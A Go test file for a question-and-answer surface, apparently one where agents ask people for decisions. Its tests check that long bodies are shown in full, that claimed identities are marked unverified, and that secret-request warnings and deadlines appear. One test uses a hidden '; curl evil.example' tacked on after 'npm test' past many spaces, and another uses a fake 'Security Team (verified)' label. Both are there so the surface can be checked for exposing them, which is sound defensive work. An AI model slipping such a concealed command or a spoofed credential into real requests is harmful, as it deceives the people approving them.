package surfacetest

import (
	"fmt"
	"regexp"
	"strings"
	"unicode/utf8"

	"github.com/saysohq/sayso"
)

// V1: everything that the digest covers can be seen before an answer counts.
var complete = []one{
	{"V1", "everything is within reach", nil, func(e *env) {
		t := e.shows(full())
		q := &t.Ask.Questions[0]
		e.mustSee(e.SeesAll(), q.Text, q.Header, "MARKBODY", q.Options[0].Label, q.Options[0].Description, "MARKPREVIEW1", q.Options[1].Label, q.Options[1].Description, "MARKPREVIEW2")
		e.Choose(0, "o2")
		e.answer(t)
		e.wantStored(t, []string{"o2"}, "")
	}},
	{"V1", "a long body", nil, func(e *env) {
		e.whole(long(300), "line 1 of the body", "line 150 of the body", "line 300 of the body")
	}},
	{"V1", "200 KB", nil, func(e *env) {
		e.whole(long(9000), "line 1 of the body", "line 4500 of the body", "line 9000 of the body")
	}},
	{"V1", "what stands behind many spaces", nil, func(e *env) { e.whole(tail(), "npm test", "; curl evil.example") }},
	{"V1", "twenty options", nil, func(e *env) {
		texts := make([]string, 20)
		for i := range texts {
			texts[i] = fmt.Sprintf("MARK%dX", i+1)
		}
		e.whole(many(), texts...)
	}},
	{"V1", "an answer does not count before", func(p *Person) bool { return p.Paged }, func(e *env) {
		t := e.shows(long(300))
		e.Choose(0, "o2")
		e.Send()
		e.StaysOpen(t, "only a part of the body was to be seen")
		if e.Says() == "" {
			e.Error("the surface does not say why it does not send")
		}
		e.mustSee(e.SeesAll(), "line 300 of the body")
		e.Choose(0, "o2")
		e.answer(t)
		e.wantStored(t, []string{"o2"}, "")
	}},
}

// whole wants all of the texts to be seen, and then takes an answer. A surface that
// cannot show so much takes none, and says where it can be given.
func (e *env) whole(a *sayso.Ask, texts ...string) {
	e.Helper()
	t := e.shows(a)
	all := e.SeesAll()
	if e.Limit > 0 && all == "" {
		if n := utf8.RuneCountInString(sayso.RenderQuestion(t.Ask, 0)); n < e.Limit/2 {
			e.Errorf("an ask of %d runes is not shown", n)
		}
		if e.StaysOpen(t, "the ask was not shown"); !inboxWords.MatchString(e.Says()) {
			e.Errorf("the surface does not say where to answer: %q", e.Says())
		}
		return
	}
	e.mustSee(all, texts...)
	e.Choose(0, "o2")
	e.answer(t)
	e.wantStored(t, []string{"o2"}, "")
}

// V2: what the hub verified is shown apart from what the asker claims.
var identity = []one{
	{"V2", "a claim is not a credential", nil, func(e *env) {
		a := database()
		a.Origin = sayso.Origin{Agents: []string{"Security Team (verified)"}, Host: "deploy-bot (over http)", Workspace: "/home/bob/payroll"}
		e.shows(a)
		e.mustSee(e.Sees(), sayso.Unverified, "Security Team (verified)")
	}},
	{"V2", "a credential is named", nil, func(e *env) {
		a := database()
		a.Origin = sayso.Origin{Agents: []string{"Security Team"}, Asker: "deploy-bot", Via: "http"}
		e.shows(a)
		e.mustSee(e.Sees(), a.Origin.Verified(), "Security Team")
		if sees(e.Sees(), sayso.Unverified) {
			e.Errorf("a verified asker is called unverified:\n%s", cut(e.Sees()))
		}
	}},
	{"V2", "in the list", func(p *Person) bool { return p.List != nil }, func(e *env) {
		a, b := database(), words()
		a.Origin = sayso.Origin{Agents: []string{"Security Team (verified)"}}
		b.Origin = sayso.Origin{Agents: []string{"helper"}, Asker: "deploy-bot"}
		e.Submit(a)
		e.Submit(b)
		e.Eventually("both are in the list", func() bool { l := e.List(); return sees(l, "Security Team") && sees(l, "helper") })
		e.mustSee(e.List(), sayso.Unverified, "deploy-bot")
	}},
	{"V2", "what an answer needs", nil, func(e *env) {
		a := database()
		a.MinAssurance = sayso.AssuranceLogin
		t := e.shows(a)
		if all := e.Sees(); all != "" {
			e.mustSee(all, t.Ask.Needs())
			e.Choose(0, "o2")
			e.answer(t)
		}
		e.StaysOpen(t, "the ask needs more than this surface has")
	}},
}

// V11: the marks are shown wherever the ask is.
var marks = []one{
	{"V11", "on the question", nil, func(e *env) {
		e.shows(marked())
		all := e.SeesAll()
		e.mustSee(strings.ToLower(all), "recommended", "dangerous", "deploy")
		if !deadline.MatchString(heldUp.ReplaceAllString(all, "")) {
			e.Errorf("the deadline is not to be seen in\n%s", cut(all))
		}
	}},
	{"V11", "a question that asks for a secret", nil, func(e *env) {
		e.shows(secretly())
		e.mustSee(e.SeesAll(), sayso.SecretWarning)
	}},
	{"V11", "a question that does not", nil, func(e *env) {
		a := secretly()
		a.Questions[0].Text = "Which password policy?"
		e.shows(a)
		if sees(e.SeesAll(), "Careful:") {
			e.Errorf("a harmless question has a warning:\n%s", cut(e.SeesAll()))
		}
	}},
	{"V11", "an answer that is final", nil, func(e *env) {
		a := database()
		a.Final = true
		e.shows(a)
		e.mustSee(e.SeesAll(), sayso.FinalNotice)
	}},
	{"V11", "an answer that is not final", nil, func(e *env) {
		e.shows(database())
		if sees(e.SeesAll(), "final while") {
			e.Errorf("the answer is called final:\n%s", cut(e.SeesAll()))
		}
	}},
	{"V11", "a question that asks for a secret, in the list", func(p *Person) bool { return p.List != nil }, func(e *env) {
		e.Submit(secretly())
		e.Eventually("it is in the list", func() bool { return sees(e.List(), "GitHub") })
		e.mustSee(e.List(), "asks for a secret")
	}},
	{"V11", "in the list", func(p *Person) bool { return p.List != nil }, func(e *env) {
		e.Submit(marked())
		e.Eventually("it is in the list", func() bool { return sees(e.List(), "What shall become") })
		all := e.List()
		e.mustSee(strings.ToLower(all), "dangerous", "holds up")
		if !deadline.MatchString(all) {
			e.Errorf("the deadline is not to be seen in\n%s", cut(all))
		}
	}},
}

// deadline is how surfaces say when an ask expires.
var deadline = regexp.MustCompile(`(?i)\b\d+ ?(h|min|m|s) left|\bdue\b|\buntil\b|\bbefore 20\d\d|\bdeadline\b|expires`)

// heldUp is how surfaces say that something waits for the answer, and no deadline.
var heldUp = regexp.MustCompile(`(?i)until you answer`)

// V12: usable without colour, in 40 columns.
var usable = []one{
	{"V12", "no colour, no control characters", nil, func(e *env) {
		e.shows(full())
		if strings.ContainsAny(e.SeesAll(), "\x1b\x07\x08") {
			e.Errorf("control characters in %q", cut(e.SeesAll()))
		}
	}},
	{"V12", "in 40 columns", func(p *Person) bool { return p.Resize != nil }, func(e *env) {
		e.Resize(40, 24)
		t := e.shows(full())
		all := e.SeesAll()
		e.mustSee(all, "MARKBODY", "MARKPREVIEW2", t.Ask.Questions[0].Text)
		for l := range strings.SplitSeq(all, "\n") {
			if n := len([]rune(l)); e.Columns > 0 && n > 40 {
				e.Errorf("a line of %d columns: %q", n, l)
			}
		}
		e.Choose(0, "o2")
		e.answer(t)
		e.wantStored(t, []string{"o2"}, "")
	}},
}
